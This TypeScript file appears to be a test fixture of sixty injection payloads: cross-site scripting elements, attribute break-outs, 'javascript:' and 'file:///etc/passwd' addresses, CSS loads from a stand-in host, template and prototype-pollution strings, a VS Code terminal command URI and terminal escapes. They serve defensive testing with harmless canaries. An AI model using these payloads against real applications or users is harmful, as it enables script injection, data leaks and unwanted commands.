/**
 * Sixty strings that do something when a program takes text for markup, script, style, an address, a pattern or a
 * format. What they would run is `canary(n)`, what they would fetch is at `canary.invalid`: both are listened for.
 */

const OUTSIDE = 'http://canary.invalid';

export const HOSTILE_STRINGS: readonly string[] = [
  // Elements that run script.
  '<script>canary(0)</script>',
  '</script><script>canary(1)</script>',
  '<img src=x onerror=canary(2)>',
  '<svg onload=canary(3)>',
  '<svg><script>canary(4)</script></svg>',
  '<body onload=canary(5)>',
  '<details open ontoggle=canary(6)>x</details>',
  '<input autofocus onfocus=canary(7)>',
  '<video><source onerror=canary(8)></video>',
  '<iframe srcdoc="<script>parent.canary(9)</script>"></iframe>',
  '<iframe src="javascript:parent.canary(10)"></iframe>',
  `<object data="${OUTSIDE}/11"></object>`,
  `<embed src="${OUTSIDE}/12">`,
  '<math><mtext><table><mglyph><style><img src=x onerror=canary(13)>',
  '<svg><animate onbegin=canary(14) attributeName=x dur=1s>',
  '<template><img src=x onerror=canary(15)></template>',
  `<link rel=stylesheet href="${OUTSIDE}/16.css">`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}/17">`,
  `<base href="${OUTSIDE}/">`,
  `<form action="${OUTSIDE}/19"><button autofocus>x</button></form>`,
  // Ends of attributes, elements and comments.
  '"><img src=x onerror=canary(20)>',
  "'><img src=x onerror=canary(21)>",
  '" onmouseover="canary(22)" x="',
  "' onmouseover='canary(23)' x='",
  '" autofocus onfocus="canary(24)',
  '--><img src=x onerror=canary(25)>',
  ']]><img src=x onerror=canary(26)>',
  '</title><img src=x onerror=canary(27)>',
  '</style><img src=x onerror=canary(28)>',
  '</text></svg><img src=x onerror=canary(29)>',
  '</textarea><img src=x onerror=canary(30)>',
  '&lt;img src=x onerror=canary(31)&gt;',
  '&#60;img src=x onerror=canary(32)&#62;',
  '\\u003cimg src=x onerror=canary(33)\\u003e',
  '<\u0000img src=x onerror=canary(34)>',
  '＜img src=x onerror=canary(35)＞',
  // Addresses.
  'javascript:canary(36)',
  'data:text/html,<script>canary(37)</script>',
  `${OUTSIDE}/38.png`,
  `//canary.invalid/39`,
  `file:///etc/passwd`,
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22touch%20canary%22%7D',
  'vscode://canary.canary/42',
  // Style.
  `url(${OUTSIDE}/43)`,
  `red;background:url(${OUTSIDE}/44)`,
  `@import "${OUTSIDE}/45";`,
  `}*{background:url(${OUTSIDE}/46)}`,
  // Script in templates and strings.
  "');canary(47);('",
  '";canary(48);"',
  '`;canary(49);`',
  '${canary(50)}',
  '{{constructor.constructor("canary(51)")()}}',
  '__proto__',
  'constructor',
  // Markdown, icons, terminals.
  `![x](${OUTSIDE}/54.png)`,
  '[x](command:cnnslicer.record "x")',
  '<a href="command:cnnslicer.record">x</a> $(sync~spin) **x**',
  '\u001b]8;;file:///etc/passwd\u0007x\u001b]8;;\u0007\u001b[2J',
  // Text that reorders, ends and overflows.
  '\u202e\u2066\ud800\u0000\ufffe\r\n\u2028\u2029x',
  `${'W'.repeat(2000)}<img src=x onerror=canary(59)>`,
];
